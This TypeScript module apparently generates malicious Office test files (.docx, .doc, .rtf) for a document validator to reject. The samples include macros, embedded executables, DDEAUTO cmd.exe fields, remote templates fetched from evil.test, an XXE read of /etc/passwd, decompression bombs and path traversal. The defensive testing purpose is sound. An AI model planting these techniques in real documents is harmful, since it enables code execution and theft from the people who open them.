import {
  compoundOf,
  contentTypes,
  docxOf,
  documentXml,
  MAIN_TYPE,
  relations,
  wordStream,
  zipOf,
  type NamedFile,
} from './build.ts'

const MEGABYTES_300 = 300_000_000
const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const SHEET_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'

const field = (instruction: string) => documentXml(`<w:p><w:r><w:instrText>${instruction}</w:instrText></w:r></w:p>`)
const external = ' TargetMode="External"'
const ole = () => compoundOf([{ name: '\u0001Ole10Native', content: Buffer.from('a.exe') }])
const vba = () => compoundOf([{ name: 'VBA' }, { name: '_VBA_PROJECT', content: Buffer.from('vba') }])

function badDocx(program: Buffer, eicar: string): [string, Buffer][] {
  const main = 'word/document.xml'
  const settings = 'word/_rels/settings.xml.rels'
  const many = Array.from({ length: 5_000 }, (_, index) => ({ name: `word/media/${index}.bin`, content: '' }))
  return [
    ['with macros', docxOf([{ name: 'word/vbaProject.bin', content: vba() }])],
    ['with macros in another place', docxOf([{ name: 'word/x.bin', content: vba() }])],
    ['with macros in the spelling of another system', docxOf([{ name: 'WORD/VBAPROJECT.BIN', content: 'vba' }])],
    ['of the type with macros', docxOf([], MACRO_TYPE)],
    [
      'with macros announced',
      docxOf([
        { name: 'word/_rels/document.xml.rels', content: relations('x', 'application/vnd.ms-office.vbaProject') },
      ]),
    ],
    ['with a control', docxOf([{ name: 'word/activeX/activeX1.bin', content: 'control' }])],
    ['with a file dragged in', docxOf([{ name: 'word/embeddings/oleObject1.bin', content: ole() }])],
    [
      'with a workbook with macros',
      docxOf([{ name: 'word/embeddings/a.xlsx', content: zipOf([{ name: 'xl/vbaProject.bin', content: 'vba' }]) }]),
    ],
    ['with a program', docxOf([{ name: 'word/media/image1.png', content: program }])],
    ['with a script', docxOf([{ name: 'word/media/image1.png', content: '#!/bin/sh\nid\n' }])],
    ['with the test virus', docxOf([{ name: 'word/media/image1.png', content: eicar }])],
    ['with the test virus, stored', docxOf([{ name: 'word/media/image1.png', content: eicar, isStored: true }])],
    ['with a DDE field', docxOf([{ name: main, content: field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"') }])],
    [
      'with a DDE field in pieces',
      docxOf([
        {
          name: main,
          content: documentXml(
            '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p>',
          ),
        },
      ]),
    ],
    ['with a simple DDE field', docxOf([{ name: main, content: documentXml('<w:fldSimple w:instr="DDE cmd"/>') }])],
    [
      'with a template from the web',
      docxOf([{ name: settings, content: relations('attachedTemplate', 'https://evil.test/a.dotm', external) }]),
    ],
    [
      'with a template from another machine',
      docxOf([{ name: settings, content: relations('attachedTemplate', '\\\\evil.test\\a.dotm', external) }]),
    ],
    [
      'with a template by file address',
      docxOf([{ name: settings, content: relations('attachedTemplate', 'file://evil.test/a.dotm', external) }]),
    ],
    [
      'with an object from the web',
      docxOf([
        {
          name: 'word/_rels/document.xml.rels',
          content: relations('oleObject', 'mhtml:https://evil.test/a!x-usc:https://evil.test/a', external),
        },
      ]),
    ],
    [
      'with an external entity',
      docxOf([{ name: main, content: `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${documentXml('&e;')}` }]),
    ],
    [
      'with a billion laughs',
      docxOf([{ name: main, content: `<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(100)}">]>${documentXml('&a;')}` }]),
    ],
    ['of 300 MB of text', docxOf([{ name: main, content: documentXml(' '.repeat(MEGABYTES_300)) }])],
    [
      'of 300 MB of text that claims to be short',
      docxOf([{ name: main, content: documentXml(' '.repeat(MEGABYTES_300)), claimed: 1_000 }]),
    ],
    [
      'of ten pictures of 30 MB',
      docxOf(
        Array.from({ length: 10 }, (_, index) => ({
          name: `word/media/${index}.bmp`,
          content: Buffer.alloc(30_000_000),
        })),
      ),
    ],
    ['of 5,000 parts', docxOf(many)],
    [
      'of archives in archives',
      docxOf([
        {
          name: 'a.zip',
          content: zipOf([
            { name: 'b.zip', content: zipOf([{ name: 'c.zip', content: zipOf([{ name: 'd', content: 'd' }]) }]) },
          ]),
        },
      ]),
    ],
    [
      'whose part is there twice',
      docxOf([
        { name: 'word/a.xml', content: '<a/>' },
        { name: 'word/a.xml', content: '<b/>' },
      ]),
    ],
    ['whose parts leave their folder', docxOf([{ name: '../../evil.sh', content: 'x' }])],
    ['whose parts are encrypted', docxOf([{ name: 'word/a.xml', content: '<a/>', flags: 1 }])],
    [
      'that is encrypted',
      compoundOf([
        { name: 'EncryptionInfo', content: Buffer.from('x') },
        { name: 'EncryptedPackage', content: Buffer.from('x') },
      ]),
    ],
    [
      'without a list of types',
      zipOf([
        { name: '_rels/.rels', content: relations('officeDocument', main) },
        { name: main, content: documentXml('') },
      ]),
    ],
    [
      'without its text',
      zipOf([
        { name: '[Content_Types].xml', content: contentTypes(MAIN_TYPE) },
        { name: '_rels/.rels', content: relations('officeDocument', main) },
      ]),
    ],
    [
      'that is a workbook',
      zipOf([
        { name: '[Content_Types].xml', content: contentTypes(SHEET_TYPE) },
        { name: '_rels/.rels', content: relations('officeDocument', 'xl/workbook.xml') },
        { name: 'xl/workbook.xml', content: '<workbook/>' },
      ]),
    ],
    ['that is a Java archive', zipOf([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: Evil' }])],
    [
      'that is an OpenDocument text',
      zipOf([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', isStored: true }]),
    ],
    ['that is an EPUB', zipOf([{ name: 'mimetype', content: 'application/epub+zip', isStored: true }])],
    ['whose text is no document', docxOf([{ name: main, content: '<html/>' }])],
  ]
}

function badDoc(): [string, Buffer][] {
  const word = (flags?: number, magic?: number, version?: number) => ({
    name: 'WordDocument',
    content: wordStream(flags, magic, version),
  })
  const circle = Buffer.from(compoundOf([word()]))
  // The directory's sector refers to itself.
  circle.writeUInt32LE(1, 512 + 4)
  return [
    [
      'with macros',
      compoundOf([word(), { name: 'Macros' }, { name: 'VBA' }, { name: '_VBA_PROJECT', content: Buffer.from('vba') }]),
    ],
    ['with macros in a storage alone', compoundOf([word(), { name: 'VBA' }])],
    [
      'with a file dragged in',
      compoundOf([word(), { name: 'ObjectPool' }, { name: '\u0001Ole10Native', content: Buffer.from('a.exe') }]),
    ],
    ['that is encrypted', compoundOf([word(0x0100)])],
    [
      'that is encrypted and was meant to be a .docx',
      compoundOf([{ name: 'EncryptedPackage', content: Buffer.from('x') }]),
    ],
    ['that is an old template', compoundOf([word(0x0001, 0xa5dc, 0x65)])],
    ['that is a workbook', compoundOf([{ name: 'Workbook', content: Buffer.from('x') }])],
    ['that is an installer', compoundOf([{ name: 'Property', content: Buffer.from('x') }])],
    ['whose text is something else', compoundOf([word(0, 0x1234)])],
    ['whose directory leads in a circle', circle],
    ['of a header alone', compoundOf([word()]).subarray(0, 512)],
  ]
}

function badRtf(program: Buffer, eicar: string): [string, string][] {
  const hex = program.toString('hex')
  return [
    ['with an object', `{\\rtf1{\\object\\objemb{\\*\\objdata ${hex}}}}`],
    ['with an object in an unusual spelling', `{\\rt{\\object\\objemb{\\*\\objdata\n${hex}}}}`],
    ['with an object that updates itself', '{\\rtf1{\\object\\objautlink\\objupdate}}'],
    ['with an object for HTML', '{\\rtf1{\\object\\objhtml}}'],
    ['with a control', '{\\rtf1{\\object\\objocx}}'],
    ['with a template from the web', '{\\rtf1{\\*\\template https://evil.test/a.dotm}}'],
    ['with a template from another machine', '{\\rtf1{\\*\\template \\\\\\\\evil.test\\\\a.dotm}}'],
    ['with a DDE field', '{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}}}'],
    ['with the test virus', `{\\rtf1 ${eicar}}`],
    ['with a program behind it', `{\\rtf1 text}${program.toString('latin1')}`],
    ['with a web page behind it', '{\\rtf1 text}<html><script>alert(1)</script></html>'],
    ['of a header alone', '{\\rtf1'],
    ['of open groups alone', `{\\rtf1${'{'.repeat(1_000_000)}`],
  ]
}

export function badOffice(program: Buffer, eicar: string): NamedFile[] {
  const named = (extension: string, about: string, content: Buffer | string) => ({
    about: `a .${extension} ${about}`,
    name: `file.${extension}`,
    content: Buffer.isBuffer(content) ? content : Buffer.from(content, 'latin1'),
  })
  return [
    ...badDocx(program, eicar).map(([about, content]) => named('docx', about, content)),
    ...badDoc().map(([about, content]) => named('doc', about, content)),
    ...badRtf(program, eicar).map(([about, content]) => named('rtf', about, content)),
  ]
}
